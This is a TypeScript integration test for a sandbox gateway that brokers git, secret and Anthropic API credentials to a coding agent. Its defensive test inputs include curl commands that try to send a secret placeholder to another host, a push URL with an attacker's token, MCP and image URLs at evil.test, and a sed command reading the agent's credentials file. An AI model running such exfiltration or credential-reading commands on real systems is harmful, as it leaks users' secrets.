import { once } from "node:events";
import { mkdirSync, writeFileSync } from "node:fs";
import { createServer, type Server } from "node:http";
import type { AddressInfo } from "node:net";
import { join } from "node:path";
import { expect } from "chai";
import { GitServer } from "../plugins/credentials/git-server.ts";
import { testServer, type TestServer } from "../plugins/credentials/support.ts";
import { makeCertificate } from "../plugins/egress/support/certificates.ts";
import { Place } from "../support/place.ts";
import { LAST_WORDS } from "../support/scripted-api/script.ts";
import { startScriptedApi, type ScriptedApi } from "../support/scripted-api/server.ts";
import type { Ended, Started } from "../support/started.ts";

const MINUTE = 60_000;
const NAME = "brokered";
const TOKEN = "ghp_realtoken5e0d9b3c7f1a2468";
const SECRET = "real-secret-a1b2c3d4e5f60718";
// in a shell of the guest
const TOKEN_IN_GUEST = `$(sed 's/.*"accessToken":"\\([^"]*\\).*/\\1/' /home/agent/.claude/.credentials.json)`;
const ACCESS = "sk-ant-oat01-real-7d1f0c3b9a5e2846";

describe("What the gateway does for a machine that holds no credential", () => {
  const certificate = makeCertificate(["git.test", "secret.test"]);
  let place: Place;
  let repositories: GitServer;
  let secretServer: TestServer;
  let other: Server;
  let api: ScriptedApi;
  let keeper: Started;
  const heardByOther: string[] = [];

  before(async function () {
    this.timeout(10 * MINUTE);
    place = new Place("project", { TOKEN, MINE_REAL: SECRET });
    repositories = await GitServer.start(certificate, ["me/mine.git", "me/other.git"], TOKEN);
    secretServer = await testServer(certificate, ({ headers }, answer) => answer.end(`you said ${headers.authorization}\n`));
    other = createServer((asked, answer) => {
      heardByOther.push(JSON.stringify([asked.url, asked.headers]));
      answer.end("other\n");
    }).listen(0, "127.0.0.1");
    await once(other, "listening");
    api = await startScriptedApi({ turns: [{ text: LAST_WORDS }], key: ACCESS });
    mkdirSync(join(place.home, ".claude"));
    writeFileSync(join(place.home, ".claude/.credentials.json"), JSON.stringify({ claudeAiOauth: { accessToken: ACCESS, refreshToken: `${ACCESS}-refresh`, expiresAt: Date.now() + 60 * MINUTE, scopes: ["user:inference", "user:profile"], subscriptionType: "max" } }));
    writeFileSync(join(place.home, "ca.pem"), certificate.ca);
    writeFileSync(join(place.home, "api.pem"), api.caPem);
    const upstream = (port: number, ca?: string) => ({ address: "127.0.0.1", port, ...(ca !== undefined && { ca: join(place.home, ca) }) });
    place.configure({
      egress: {
        allow: ["other.test:80"],
        upstreams: {
          "git.test": upstream(repositories.port, "ca.pem"), "secret.test": upstream(secretServer.port, "ca.pem"),
          "other.test:80": upstream((other.address() as AddressInfo).port), "api.anthropic.com": upstream(api.port, "api.pem"),
        },
      },
      credentials: {
        login: "host",
        secrets: { mine: { source: { env: "MINE_REAL" }, hosts: ["secret.test"], place: [{ header: "authorization" }], variable: "MINE" } },
        git: { "git.test": { source: { env: "TOKEN" }, push: ["me/mine"] } },
      },
    });
    keeper = place.cloche(["exec", "--name", NAME, "--", "sh", "-c", "echo ready; exec cat"], { deadlineMs: 15 * MINUTE });
    await keeper.says(/^ready$/m);
  });
  beforeEach(() => { heardByOther.length = secretServer.heard.length = repositories.heard.length = 0; });
  after(async () => {
    keeper?.stdin.end();
    await keeper?.ended.catch(() => {});
    place[Symbol.dispose]();
    await repositories?.[Symbol.asyncDispose]();
    for (const server of [other, secretServer?.server]) server?.closeAllConnections(), server?.close();
    await api?.close();
  });

  const run = async (script: string): Promise<Ended> => await place.cloche(["exec", "--session", NAME, "--", "sh", "-c", script], { input: "", deadlineMs: 3 * MINUTE }).ended;
  const inside = async (script: string): Promise<string> => {
    const { status, stdout, stderr } = await run(script);
    if (status !== 0) throw new Error(`${script} ended with ${status}: ${stdout}${stderr}`);
    return stdout;
  };

  it("pushes with your token to the repository that you named, by its SSH remote, and to no other", async () => {
    await inside("git init -q -b main /tmp/w && cd /tmp/w && git -c user.name=a -c user.email=a@b.test commit -q --allow-empty -m first && git remote add origin git@git.test:me/mine.git && git push -q origin main");
    expect(repositories.commitsOf("me/mine.git")).to.equal("first");
    expect(repositories.heard.length).to.be.greaterThan(1);
    expect(repositories.heard.every(({ authorized }) => authorized)).to.equal(true);
    repositories.heard.length = 0;
    for (const url of ["git@git.test:me/other.git", "https://git.test/me/other.git", "https://x-access-token:attackers-token@git.test/me/other.git"]) {
      const { status, stderr } = await run(`cd /tmp/w && git push ${url} main`);
      expect(status, stderr).to.not.equal(0);
      expect(stderr, url).to.include("403");
    }
    expect(repositories.heard.filter(({ head, authorized }) => authorized || /receive-pack/.test(head))).to.deep.equal([]);
    expect(repositories.commitsOf("me/other.git")).to.equal("");
    expect(await inside(`git config --list --show-origin; env; cat /etc/gitconfig`)).to.include("insteadof=git@git.test:").and.not.include(TOKEN);
  });

  it("puts a secret in its place at its own host, and takes it out of the answer", async () => {
    const said = await inside('curl -sS -H "Authorization: Bearer $MINE" https://secret.test/x');
    expect(secretServer.heard.map(({ headers }) => headers.authorization)).to.deep.equal([`Bearer ${SECRET}`]);
    expect(said).to.match(/^you said Bearer \S+\n$/).and.not.include(SECRET);
  });

  it("refuses a placeholder that is sent to another host, or elsewhere at its own, and reports it", async () => {
    const attempts = ['-H "X-Key: $MINE" http://other.test/a', '--data "text=$MINE" http://other.test/b', '"http://other.test/c?$MINE"', '-H "X-Other: $MINE" https://secret.test/d'];
    for (const attempt of attempts) expect(await inside(`curl -sS -w '%{http_code}' ${attempt}`), attempt).to.match(/carries the placeholder of "mine" .*\n+403$/);
    expect([heardByOther, secretServer.heard]).to.deep.equal([[], []]);
    const { stdout } = await place.cloche(["egress", "log", "--session", NAME], { input: "" }).ended;
    expect(stdout.match(/the placeholder of "mine" was sent to (?:other|secret)\.test, where it does not belong/g)).to.have.length.at.least(attempts.length);
    expect(await inside("curl -sS http://other.test/control")).to.equal("other\n");
    expect(heardByOther).to.have.lengthOf(1);
  });

  it("asks the agent's service for none of what makes it dial, fetch, run or keep something", async () => {
    const before = api.requests.length;
    const saying = (content: unknown): object => ({ messages: [{ role: "user", content }] });
    const bodies = [
      { mcp_servers: [{ type: "url", url: "https://evil.test", name: "x" }] }, { tools: [{ type: "web_search_20250305", name: "w" }] }, { tools: [{ type: "web_fetch_20250910", name: "w" }] },
      { tools: [{ type: "code_execution_20250825", name: "c" }] }, { container: "c" }, saying([{ type: "image", source: { type: "url", url: "https://evil.test/x" } }]), saying([{ type: "document", source: { type: "file", file_id: "f" } }]),
    ];
    const question = (more: object): string => JSON.stringify({ model: "m", max_tokens: 1, ...saying("hi"), ...more });
    const ask = (path: string, body: string, bearer = TOKEN_IN_GUEST): string => `curl -sS -w '%{http_code}\\n' -H "Authorization: Bearer ${bearer}" -H 'Content-Type: application/json' --data '${body}' https://api.anthropic.com${path}`;
    const answers = await inside([...bodies.map((body) => ask("/v1/messages", question(body))), ask("/v1/files", "{}"), ask("/v1/messages/batches", "{}"), ask("/v1/messages", question({}), "attackers-key")].join("; "));
    expect(answers.match(/^40[03]$/gm)).to.have.lengthOf(bodies.length + 3);
    expect(answers.match(/The user can allow it: cloche config set credentials.service.allow/g)).to.have.lengthOf(bodies.length + 2);
    expect(api.requests).to.have.lengthOf(before);
    expect(await inside(ask("/v1/messages", question({})))).to.include("A title").and.match(/200\n$/);
    expect(api.requests.slice(before).map(({ status, headers }) => [status, headers.authorization])).to.deep.equal([[200, `Bearer ${ACCESS}`]]);
  });

  it("lets the agent be as logged in as you are on the host", async () => {
    const status = JSON.parse(await inside("claude auth status --json")) as Record<string, unknown>;
    expect(status).to.include({ loggedIn: true, authMethod: "claude.ai", subscriptionType: "max" });
  });

  it("lets the agent speak with a token in its environment that is a placeholder", async () => {
    const before = api.requests.length;
    expect(await inside(`mkdir -p /tmp/h; export CLAUDE_CODE_OAUTH_TOKEN=${TOKEN_IN_GUEST} HOME=/tmp/h; claude -p hello`)).to.equal(`${LAST_WORDS}\n`);
    expect(api.conversation().at(-1)?.headers.authorization).to.equal(`Bearer ${ACCESS}`);
    expect(api.requests.length).to.be.greaterThan(before);
  });
});
